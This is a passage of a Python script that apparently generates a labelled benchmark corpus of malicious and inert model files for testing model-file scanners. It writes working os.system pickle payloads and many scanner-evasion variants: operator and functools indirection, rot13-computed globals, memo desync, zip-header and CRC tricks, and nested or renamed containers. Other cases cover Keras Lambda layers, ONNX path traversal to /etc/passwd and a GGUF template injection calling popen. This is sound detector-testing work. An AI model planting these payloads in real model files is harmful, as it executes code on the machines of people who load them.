            c.add("malicious", cls, f"{cls}-p{proto}.pkl", dumps(Call(G(module, name), *call_args), proto))
    # Indirection through allowed-looking helpers: operator, functools, pkgutil.
    os_module = G("pathlib", "os")  # pathlib imports os: the module object itself
    for proto in range(6):
        mc = Call(Call(G("operator", "methodcaller"), "system", CMD), os_module)
        c.add("malicious", "operator-methodcaller", f"operator-methodcaller-p{proto}.pkl", dumps(mc, proto))
        ag = Call(Call(Call(G("_operator", "attrgetter"), "system"), os_module), CMD)
        c.add("malicious", "operator-attrgetter", f"operator-attrgetter-p{proto}.pkl", dumps(ag, proto))
        fp = Call(Call(G("functools", "partial"), G("os", "system"), CMD))
        c.add("malicious", "functools-partial", f"functools-partial-p{proto}.pkl", dumps(fp, proto))
        rn = Call(Call(G("pkgutil", "resolve_name"), "os:system"), CMD)
        c.add("malicious", "pkgutil-resolve-name", f"pkgutil-resolve-name-p{proto}.pkl", dumps(rn, proto))
        gs = Call(Call(G("builtins", "getattr"), os_module, "system"), CMD)
        c.add("malicious", "builtins-getattr", f"builtins-getattr-p{proto}.pkl", dumps(gs, proto))
    # Payload inside an ordinary-looking state dict (a model's state with one poisoned value).
    for proto in (2, 4):
        poisoned = SetItems(Call(G("collections", "OrderedDict")), [("fc.weight", 1.0), ("fc.bias", Call(G("os", "system"), CMD))])
        c.add("malicious", "poisoned-state-dict", f"state-p{proto}.pkl", dumps(poisoned, proto))

    # Nested pickles: a pickle in a bytes argument; a pickle zip inside a zip.
    inner = dumps(Call(G("os", "system"), CMD), 4)
    for proto in (3, 4, 5):
        c.add("malicious", "nested-pickle-bytes", f"pickle-loads-p{proto}.pkl", dumps(Call(G("pickle", "loads"), B(inner)), proto))
        c.add("malicious", "nested-pickle-bytes", f"torch-load-bytesio-p{proto}.pkl",
              dumps(Call(G("torch", "load"), Call(G("_io", "BytesIO"), B(inner))), proto))
    layers = [("fc.weight", (4, 4)), ("fc.bias", (4,))]
    storages = [("0", b"\0" * 64), ("1", b"\0" * 16)]
    bad_state = SetItems(Call(G("collections", "OrderedDict")), [("fc.weight", torch_tensor("0", (4, 4))), ("__bench__", Call(G("os", "system"), CMD))])
    bad_zip = torch_zip(dumps(bad_state, 2), storages)
    c.add("malicious", "torch-zip-payload", "model.pt", bad_zip)
    c.add("malicious", "torch-zip-payload", "pytorch_model.bin", torch_zip(dumps(bad_state, 2), storages, prefix="pytorch_model"))
    c.add("malicious", "nested-zip", "bundle.zip", zip_bytes([("README.md", b"model bundle\n"), ("models/model.pt", bad_zip)]))
    c.add("malicious", "nested-zip", "bundle-deep.zip", zip_bytes([("outer/inner.zip", zip_bytes([("models/model.pt", bad_zip)]))]))

    # Container tricks.
    plain = dumps(Call(G("os", "system"), CMD), 2)
    for name in ("model.bin", "model.pt", "model.safetensors", "model.ckpt", "model.h5", "weights.npy"):
        c.add("malicious", "renamed-pickle", name, plain)
    good_pkl = dumps(torch_state_dict(layers), 2)
    bad_pkl = dumps(bad_state, 2)
    def torch_members(pkl, **extra):
        base = [{"local_name": "archive/data.pkl", "data": pkl, **extra},
                {"local_name": "archive/byteorder", "data": b"little"},
                {"local_name": "archive/data/0", "data": storages[0][1]}, {"local_name": "archive/data/1", "data": storages[1][1]},
                {"local_name": "archive/version", "data": b"3\n"}]
        return base
    m = torch_members(bad_pkl); m[0]["local_name"] = "archive/notes.txt"; m[0]["central_name"] = "archive/data.pkl"
    c.add("malicious", "zip-name-mismatch", "central-says-data-pkl.pt", raw_zip(m), note="local header name archive/notes.txt, central directory archive/data.pkl (torch reads the central one)")
    m = torch_members(good_pkl) + [{"local_name": "archive/data.pkl", "central_name": "archive/extra/readme.txt", "data": bad_pkl}]
    c.add("malicious", "zip-name-mismatch", "local-says-data-pkl.pt", raw_zip(m), note="a second member: local name archive/data.pkl, central name archive/extra/readme.txt")
    c.add("malicious", "zip-flag-bits", "encrypted-bit.pt", raw_zip(torch_members(bad_pkl, flags=0x1)), note="general-purpose flag bit 0 (encrypted) set, data not encrypted")
    c.add("malicious", "zip-flag-bits", "data-descriptor-bit.pt", raw_zip(torch_members(bad_pkl, flags=0x8)), note="flag bit 3 set without a data descriptor")
    c.add("malicious", "zip-bad-crc", "bad-crc.pt", raw_zip(torch_members(bad_pkl, crc=0xDEADBEEF)))
    legacy_storages = [("0", b"\0" * 64), ("1", b"\0" * 16)]
    legacy_good = SetItems(Call(G("collections", "OrderedDict")), [(n, legacy_tensor(str(i), s)) for i, (n, s) in enumerate(layers)])
    legacy_bad = SetItems(Call(G("collections", "OrderedDict")), [("fc.weight", legacy_tensor("0", (4, 4))), ("x", Call(G("os", "system"), CMD))])
    c.add("malicious", "torch-legacy-payload", "object-pickle.bin", legacy_torch(dumps(legacy_bad, 2, frame=False), legacy_storages))
    c.add("malicious", "torch-legacy-payload", "storage-keys-pickle.bin",
          legacy_torch(dumps(legacy_good, 2, frame=False), legacy_storages, keys_pickle=dumps(Call(G("os", "system"), CMD), 2, frame=False)),
          note="the fifth pickle (storage keys) is the payload")
    # torch's _legacy_load reads five pickles and then the storages of the keys the fifth names;
    # bytes after them are never read, so these payloads never run: "inert", reported apart.
    c.add("inert", "torch-legacy-extra-pickle", "sixth-pickle.bin",
          legacy_torch(dumps(legacy_good, 2, frame=False), [], after=plain), note="a sixth pickle where the storages would start (no storages)")
    c.add("inert", "torch-legacy-extra-pickle", "after-storages.bin",
          legacy_torch(dumps(legacy_good, 2, frame=False), legacy_storages, after=plain), note="a pickle after the raw storage bytes")
    c.add("malicious", "torch-zip-odd-name", "renamed-prefix.pt", torch_zip(bad_pkl, storages, prefix="weights"))
    c.add("malicious", "torch-zip-odd-name", "pickle-in-data-member.pt", torch_zip(good_pkl, storages, extra=[("archive/data/99", plain)]),
          note="a pickle stored as a tensor data member, no .pkl name")
    c.add("malicious", "torch-zip-odd-name", "pickle-as-extra.pt", torch_zip(good_pkl, storages, extra=[("archive/extra/config.bin", plain)]))

    # Streams that cannot be followed to the end, or whose operands are computed.
    e = Enc(4)
    e.value(Call(G("_codecs", "encode"), "bf", "rot13"))
    e.value(Call(G("_codecs", "encode"), "flfgrz", "rot13"))
    e.out += b"\x93"; e.put()
    e.value(Tup(CMD)); e.out += b"R"
    c.add("malicious", "computed-stack-global", "rot13-operands-p4.pkl", b"\x80\x04" + bytes(e.out) + b".",
          note="STACK_GLOBAL of _codecs.encode('bf','rot13'), _codecs.encode('flfgrz','rot13') = os.system")
    e = Enc(4)
    e.value(Call(G("builtins", "str"), "posix")); e.value(Call(G("builtins", "str"), "system")); e.out += b"\x93"; e.put()
    e.value(Tup(CMD)); e.out += b"R"
    c.add("malicious", "computed-stack-global", "str-operands-p4.pkl", b"\x80\x04" + bytes(e.out) + b".", note="operands are str('posix'), str('system')")
    # Memo desync: slot 0/1 first hold collections/OrderedDict, are overwritten with os/system, then read.
    e = Enc(4)
    e.string("collections"); e.out += b"q\x00"; e.string("OrderedDict"); e.out += b"q\x01"; e.out += b"00"
    e.string("os"); e.out += b"q\x00"; e.string("system"); e.out += b"q\x01"; e.out += b"00"
    e.out += b"h\x00h\x01\x93"; e.value(Tup(CMD)); e.out += b"R"
    c.add("malicious", "memo-desync", "overwritten-slots-p4.pkl", b"\x80\x04" + bytes(e.out) + b".", note="BINPUT 0/1 overwritten before BINGET")
    e = Enc(4)
    e.string("os"); e.out += b"q\x05\x30"; e.string("system"); e.out += b"q\x07\x30"
    e.out += b"h\x05h\x07\x93"; e.value(Tup(CMD)); e.out += b"R"
    c.add("malicious", "memo-desync", "sparse-slots-p4.pkl", b"\x80\x04" + bytes(e.out) + b".", note="memo slots 5 and 7, none before")
    # A visible payload, then an error CPython raises after it has run.
    p = dumps(Call(G("os", "system"), CMD), 2)[:-1]
    c.add("malicious", "stack-underflow", "pop-after-call.pkl", p + b"00.", note="os.system runs, then POP on an empty stack")
    c.add("malicious", "stack-underflow", "reduce-no-args.pkl", b"\x80\x02cos\nsystem\nR.", note="REDUCE with only the callable on the stack")
    c.add("malicious", "truncated-pickle", "no-stop.pkl", p, note="os.system runs, then the stream ends without STOP")
    c.add("malicious", "truncated-pickle", "cut-in-string.pkl", p + b"X\xff\x00\x00\x00abc", note="a BINUNICODE cut short after the call")
    c.add("malicious", "unknown-opcode", "opcode-ff.pkl", p + b"\xff.", note="0xff after the call")
    c.add("malicious", "unknown-opcode", "opcode-before-call.pkl", b"\x80\x02\xfe" + p[2:] + b".", note="0xfe at the start; CPython stops there")
    c.add("malicious", "trailing-garbage", "pickle-then-text.pkl", dumps(Call(G("collections", "OrderedDict")), 2) + b"\ngarbage after STOP " + plain)
    c.add("malicious", "trailing-garbage", "second-pickle.pkl", dumps(Dct([("weights", Lst(1, 2, 3))]), 4) + plain, note="two pickles in a row; the second is the payload")

    # Malicious joblib, compressed as joblib compresses.
    for method, compress in (("zlib", lambda d: zlib.compress(d, 3)), ("gzip", lambda d: gzip.compress(d, 3, mtime=0)),
                             ("bz2", lambda d: bz2.compress(d, 3)), ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE)),
                             ("xz", lambda d: lzma.compress(d, lzma.FORMAT_XZ))):
        c.add("malicious", f"joblib-compressed-{method}", f"model.joblib.{method}", compress(dumps(Call(G("os", "system"), CMD), 4)), family="joblib-compressed")
    c.add("malicious", "joblib-plain", "model.joblib", dumps(Call(G("os", "system"), CMD), 4))

    # Deflated zip members (torch reads them; so does zipfile).
    c.add("malicious", "zip-deflated-member", "deflated-data-pkl.pt",
          raw_zip([dict(mm, method=8) if mm["local_name"].endswith(".pkl") else mm for mm in torch_members(bad_pkl)]), family="zip-deflated")
    c.add("malicious", "zip-deflated-member", "all-deflated.pt", zip_bytes([("archive/data.pkl", bad_pkl), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED),
          family="zip-deflated")

    # NumPy object arrays carrying a pickle.
    c.add("malicious", "npy-object-dtype", "object.npy", npy_header("|O", (1,)) + dumps(Call(G("os", "system"), CMD), 3))
    c.add("malicious", "npy-object-dtype", "structured-object.npy", npy_header([("a", "<f4"), ("b", "|O")], (1,)) + dumps(Call(G("os", "system"), CMD), 3))
    c.add("malicious", "npy-object-dtype", "arrays.npz", zip_bytes([("a.npy", npy_header("<f4", (2,)) + b"\0" * 8),
                                                                 ("b.npy", npy_header("|O", (1,)) + dumps(Call(G("os", "system"), CMD), 3))]))

    # TorchScript: the pickles in a torch.jit.save zip.
    c.add("malicious", "torchscript-payload", "constants.pt", zip_bytes([
        ("scripted/data.pkl", dumps(Tup(), 2)), ("scripted/code/__torch__.py", b"class MyModule(Module):\n  def forward(self, x):\n    return x\n"),
        ("scripted/constants.pkl", dumps(Tup(Call(G("os", "system"), CMD)), 2)), ("scripted/version", b"3\n")]), note="the payload is in constants.pkl")

    # Keras: a Lambda layer with marshalled bytecode, module/registered_name pointing at os.system.
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
           "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {
               "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8xAAAACXAHQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
               "defaults": None, "closure": None}}, "output_shape": None, "arguments": {}}}
    c.add("malicious", "keras-lambda", "lambda.keras", keras_zip(keras_dense_config([lam])), family="keras")
    osmod = {"module": "os", "class_name": "system", "registered_name": None, "config": {"name": CMD}}
    c.add("malicious", "keras-module-os", "module-os.keras", keras_zip(keras_dense_config([osmod])), family="keras")
    reg = {"module": "keras.layers", "class_name": "Dense", "registered_name": "os>system", "config": {"name": CMD, "units": 1}}
    # Keras 3 looks a registered_name up in its registry of registered objects only (no import):
    # `os>system` resolves to nothing and the layer loads as the Dense its module/class_name say.
    c.add("inert", "keras-registered-name", "registered-name.keras", keras_zip(keras_dense_config([reg])), family="keras")
    unsafe = keras_dense_config([lam]); unsafe["config"]["safe_mode"] = False
    c.add("malicious", "keras-safe-mode-off", "safe-mode-off.keras", keras_zip(unsafe), family="keras", note="config says safe_mode false, with a Lambda")
    if getattr(c, "legacy_h5", None):
        lam_h5 = dict(lam); lam_h5["config"] = dict(lam["config"], function=["4wEAAAAAAAAAAAAAAAEAAAADAAAA8xAAAACXAHQA", None, None], function_type="lambda")
        c.add_file("malicious", "keras-lambda", "lambda.h5", lambda p: c.legacy_h5(p, keras_dense_config([lam_h5])), family="keras")

    # ONNX external data escaping the model's folder.
    if "onnx" in c.versions:
        import onnx
        from onnx import helper, TensorProto
        for cls, location in (("onnx-external-data-traversal", "../../etc/passwd"), ("onnx-external-data-absolute", "/etc/passwd")):
            weight = helper.make_tensor("W", TensorProto.FLOAT, [4, 3], [0.1] * 12)
            weight.ClearField("float_data"); weight.data_location = TensorProto.EXTERNAL
            entry = weight.external_data.add(); entry.key, entry.value = "location", location
            graph = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "tiny",
                                      [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                                      [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])], [weight])
            c.add("malicious", cls, "model.onnx", helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString(), family="onnx")
        graph = helper.make_graph([helper.make_node("Exec", ["x"], ["y"], domain="com.attacker")], "custom",
                                  [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
        c.add("malicious", "onnx-custom-domain", "custom-op.onnx",
              helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker", 1)]).SerializeToString(), family="onnx")

    # GGUF chat templates that reach Python objects (server-side template injection).
    for cls, template in (("gguf-template-mro", "{{ ''.__class__.__mro__[1].__subclasses__()[133].__init__.__globals__['popen']('id').read() }}"),
                          ("gguf-template-globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}")):
        c.add("malicious", cls, "model.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", template)]), family="gguf")

    # safetensors whose header lies.
    f32 = struct.pack("<16f", *([0.5] * 16))
    overlap = {"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}, "b": {"dtype": "F32", "shape": [4, 4], "data_offsets": [32, 96]}}
    text = json.dumps(overlap).encode(); text += b" " * (-len(text) % 8)
    c.add("malicious", "safetensors-overlap", "overlap.safetensors", struct.pack("<Q", len(text)) + text + f32 + f32, family="safetensors")
    c.add("malicious", "safetensors-header-past-eof", "header-length.safetensors",
          safetensors({"a": ("F32", [4, 4], f32)}, length_override=2**40), family="safetensors")


def big_torch_zip(path, megabytes, tensors=320, seed=42):
    """A torch.save-style zip of about `megabytes`, with `tensors` float32 tensors (a realistic
    data.pkl) and their storages stored, written in chunks."""
    rng = random.Random(seed)
    block = bytes(rng.getrandbits(8) for _ in range(1 << 20))
    per = max(1, (megabytes << 20) // tensors // 4)
    names = []
    for i in range(tensors):
        layer, kind = divmod(i, 8)
        names.append((f"model.layers.{layer}.{['self_attn.q_proj', 'self_attn.k_proj', 'self_attn.v_proj', 'self_attn.o_proj', 'mlp.gate_proj', 'mlp.up_proj', 'mlp.down_proj', 'input_layernorm'][kind]}.weight", (per,)))
    pkl = dumps(torch_state_dict(names), 2)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as archive:
        archive.writestr(zipfile.ZipInfo("archive/data.pkl", FIXED_TIME), pkl)
        archive.writestr(zipfile.ZipInfo("archive/byteorder", FIXED_TIME), b"little")
        for i in range(tensors):
            info = zipfile.ZipInfo(f"archive/data/{i}", FIXED_TIME)
            with archive.open(info, "w", force_zip64=True) as member:
                left = per * 4
                while left:
                    chunk = block[: min(left, len(block))]
                    member.write(chunk)
                    left -= len(chunk)
        archive.writestr(zipfile.ZipInfo("archive/version", FIXED_TIME), b"3\n")


def big_pickle(path, megabytes, seed=42):
    """A raw pickle (protocol 4): a dict with metadata and one BINBYTES8 payload of `megabytes`."""
    rng = random.Random(seed)
    block = bytes(rng.getrandbits(8) for _ in range(1 << 20))
    size = megabytes << 20
    e = Enc(4)
    e.out += b"}"; e.put(); e.out += b"("
    for text in ("name", "blob", "data"):
        e.string(text); e.put()
    head = b"\x80\x04" + bytes(e.out) + b"\x8e" + struct.pack("<Q", size)
    with open(path, "wb") as f:
        f.write(head)
        left = size
        while left:
            chunk = block[: min(left, len(block))]
            f.write(chunk)
            left -= len(chunk)
        f.write(b"\x94u.")


def main():
    # Sets and dicts of strings (a TfidfVectorizer's vocabulary) follow the string hash: fix it.
    if os.environ.get("PYTHONHASHSEED") != "0":
        os.execve(sys.executable, [sys.executable] + sys.argv, dict(os.environ, PYTHONHASHSEED="0"))
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", required=True)
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--big-only", action="store_true",
                        help="write only OUT/checkpoint.pt (--big-zip-mb) and OUT/blob.pkl (--big-pickle-mb), no corpus")
    parser.add_argument("--big-zip-mb", type=int, default=2100, help="size of the torch-style zip of --big-only")
    parser.add_argument("--big-pickle-mb", type=int, default=2100, help="size of the raw pickle of --big-only")
    args = parser.parse_args()
    if args.big_only:
        os.makedirs(args.out, exist_ok=True)
        big_torch_zip(os.path.join(args.out, "checkpoint.pt"), args.big_zip_mb, seed=args.seed)
        big_pickle(os.path.join(args.out, "blob.pkl"), args.big_pickle_mb, seed=args.seed)
        return
    rng = random.Random(args.seed)
    corpus = Corpus(args.out)
    benign(corpus, rng)
    malicious(corpus, rng)
    manifest = {"seed": args.seed, "python": sys.version.split()[0], "versions": corpus.versions, "missing": corpus.missing,
                "files": sorted(corpus.entries, key=lambda e: e["path"])}
    with open(os.path.join(args.out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
    counts = collections.Counter(e["expected"] for e in corpus.entries)
    print(f"wrote {counts['benign']} benign, {counts['malicious']} malicious and {counts['inert']} inert files to {args.out}"
          + (f"; missing: {', '.join(m.split(':')[0] for m in corpus.missing)}" if corpus.missing else ""))


if __name__ == "__main__":
    main()
